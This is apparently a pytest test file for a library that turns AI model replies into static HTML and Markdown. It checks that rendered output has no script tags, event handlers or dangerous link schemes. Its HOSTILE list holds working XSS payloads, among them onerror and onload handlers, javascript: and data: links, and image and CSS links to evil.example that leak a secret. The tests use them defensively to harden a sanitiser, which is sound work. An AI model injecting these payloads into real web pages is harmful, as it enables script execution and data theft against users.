"""Static HTML and Markdown of what a model said: readable, and dead."""

from __future__ import annotations

import copy
import pickle
from html.parser import HTMLParser

import pytest

from oaikit.reply import Choice, Reply, Usage
from oaikit.transcript import answer_html, conversation_html, html_of, markdown_of, numbers, side_by_side

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "`<img src=x onerror=alert(1)>",
    "```\n</code></pre><svg onload=alert(1)>\n",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](http://evil.example/?secret)",
    '![x](x" onerror="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    '<http://a.example/"onclick=alert(1)//>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{background:url(http://evil.example)}</style>",
    "[a](<javascript:alert(1)>)",
    "<a href=javascript:alert(1)>x</a>",
    "- <details open ontoggle=alert(1)>",
    "| a |\n|---|\n| <b onmouseover=alert(1)>x</b> |",
)
SAFE_TAGS = frozenset(
    (
        *("p", "a", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "hr", "br", "s", "img"),
        *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
        *("div", "b", "details", "summary"),
    )
)


class Tags(HTMLParser):
    """Refuses what could do something."""

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        assert tag in SAFE_TAGS, tag
        for name, value in attributes:
            assert not name.startswith("on"), (tag, name)
            assert name in ("href", "target", "rel", "style", "class", "title", "src", "alt", "start"), (
                tag,
                name,
            )
            if name == "href":
                assert (value or "").split(":")[0].lower() not in (
                    "javascript",
                    "vbscript",
                    "data",
                    "file",
                ), value
            if name == "src":
                assert (value or "").startswith("data:image/"), value


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_a_model_says_is_alive(text: str) -> None:
    for html in (
        html_of(text),
        answer_html(
            text, reasoning=text, tool_calls=[{"function": {"name": text, "arguments": text}}], footer=text
        ),
        conversation_html([{"role": "user", "content": [{"type": "text", "text": text}]}]),
        side_by_side([(text, html_of(text))]),
        Reply(model=text, choices=[Choice(text), Choice(text)]).to_html(),
    ):
        Tags().feed(html)
    assert "<" not in markdown_of(text)
    assert "![" not in markdown_of(text)


def test_markdown_is_rendered() -> None:
    html = html_of("**bold** `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[x](https://a.example)")
    for piece in ("<strong>bold</strong>", "<code>code</code>", "<td>1</td>", 'rel="noopener noreferrer"'):
        assert piece in html
    picture = "![dot](data:image/png;base64,iVBORw0KGgo=)"
    assert '<img src="data:image/png;base64,iVBORw0KGgo="' in html_of(picture)
    assert "<em>a cat</em>" in html_of("![a cat](https://a.example/cat.png)")


def test_a_line_of_numbers_leaves_out_what_is_not_known() -> None:
    assert numbers() == ""
    assert numbers(model="tiny", completion_tokens=1, finish_reason="stop") == "tiny · 1 token · stop"
    said = numbers(
        completion_tokens=7, ttft_s=0.034, tokens_per_s=310.4, finish_reason="stop", state="stopped"
    )
    assert said == "7 tokens · 0.03 s to the first · 310 tokens/s · stopped"


def test_a_reply_shows_its_text_and_its_numbers() -> None:
    reply = Reply("tiny", [Choice("**yes** <b>", "stop", reasoning="hm")], Usage(3, 4), 0.5, 1.0)
    bundle = reply._repr_mimebundle_()
    assert bundle["text/plain"] == "**yes** <b>"
    assert bundle["text/markdown"] == "**yes** &lt;b>"
    for piece in ("<strong>yes</strong> &lt;b&gt;", "<summary>Thought</summary>", "tiny · 4 tokens", "stop"):
        assert piece in bundle["text/html"]


def test_a_reply_can_be_copied_and_pickled_without_its_request() -> None:
    called: list[int] = []
    reply = Reply("tiny", [Choice("a", "stop")])
    reply.cancel()  # nothing to abort
    reply.on_cancel(lambda: called.append(1))
    for other in (copy.copy(reply), copy.deepcopy(reply), pickle.loads(pickle.dumps(reply))):
        assert other == reply
        other.cancel()
    assert not called
    reply.cancel()
    assert called
